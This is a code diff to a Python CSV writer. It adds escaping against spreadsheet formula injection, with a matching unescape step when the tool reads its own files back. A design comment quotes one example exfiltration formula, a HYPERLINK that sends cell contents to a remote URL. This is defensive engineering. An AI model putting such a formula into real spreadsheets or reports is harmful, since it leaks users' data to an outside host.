@@ -9,7 +9,8 @@ with a comma, as Russian Excel reads «16.7» as a date.
 from __future__ import annotations
 
 import csv
-from collections.abc import Iterator, Sequence
+import re
+from collections.abc import Iterable, Iterator, Sequence
 from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
@@ -35,11 +36,64 @@ PLAIN = CsvDialect()
 EXCEL = CsvDialect(encoding="utf-8-sig", delimiter=";", decimal=",")
 
 
+# ------------------------------------------------------------------ formula injection
+#
+# Report text and file names are untrusted, and a spreadsheet evaluates a CSV cell that
+# starts with «=», «+», «-» or «@» as a formula (tab and CR too, by the OWASP advice: some
+# programs drop them and evaluate what follows; full-width forms, as some locales do):
+# `=HYPERLINK("http://…/?d="&A2, …)` in a report would become a working link that sends
+# the table away. Such a cell is written with a leading apostrophe, which spreadsheets
+# show as text. A cell that already starts with an apostrophe gets one more, so the
+# escape is undone exactly (`unescape_cell`) when the tool reads its own CSV back.
+# Numbers the tool writes itself («-3», «16,7») stay numbers.
+# (defusedcsv does the escaping but not the exact undo, and would escape «-3».)
+_FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+_PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")
+
+
+def escape_cell(value: object) -> object:
+    """A CSV cell a spreadsheet shows as text, never evaluates (see above)."""
+    if not isinstance(value, str) or not value or _PLAIN_NUMBER.fullmatch(value):
+        return value
+    first = value.lstrip(" \u00a0")[:1]
+    if first in _FORMULA_START or value[0] == "'":
+        return "'" + value
+    return value
+
+
+def unescape_cell(text: str) -> str:
+    """The cell's text as it was before `escape_cell`."""
+    return text[1:] if text.startswith("'") else text
+
+
+class _SafeWriter:
+    """csv.writer whose every cell goes through `escape_cell`."""
+
+    def __init__(self, writer: Any) -> None:
+        self._writer = writer
+
+    def writerow(self, row: Iterable[object]) -> None:
+        self._writer.writerow([escape_cell(c) for c in row])
+
+
 @contextmanager
-def csv_rows(path: Path, dialect: CsvDialect) -> Iterator[Any]:
-    """A csv.writer on a file written atomically in `dialect`."""
+def csv_rows(path: Path, dialect: CsvDialect) -> Iterator[_SafeWriter]:
+    """A csv writer on a file written atomically in `dialect`, cells escaped."""
     with atomic_text(path, encoding=dialect.encoding, newline="") as fh:
-        yield csv.writer(fh, delimiter=dialect.delimiter)
+        yield _SafeWriter(csv.writer(fh, delimiter=dialect.delimiter))
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    """Rows of a CSV this tool wrote, in either dialect (plain, or `--excel`: BOM and
+    «;»), with the escape of formula-like cells undone."""
+    with path.open(encoding="utf-8-sig", newline="") as fh:  # utf-8-sig: BOM or not
+        header = fh.readline()
+        fh.seek(0)
+        delimiter = ";" if header.count(";") > header.count(",") else ","
+        return [
+            {k: unescape_cell(v or "") for k, v in row.items() if k is not None}
+            for row in csv.DictReader(fh, delimiter=delimiter)
+        ]
 
 
 # The first ten columns are the contract of the spec; the last three help a reviewer:
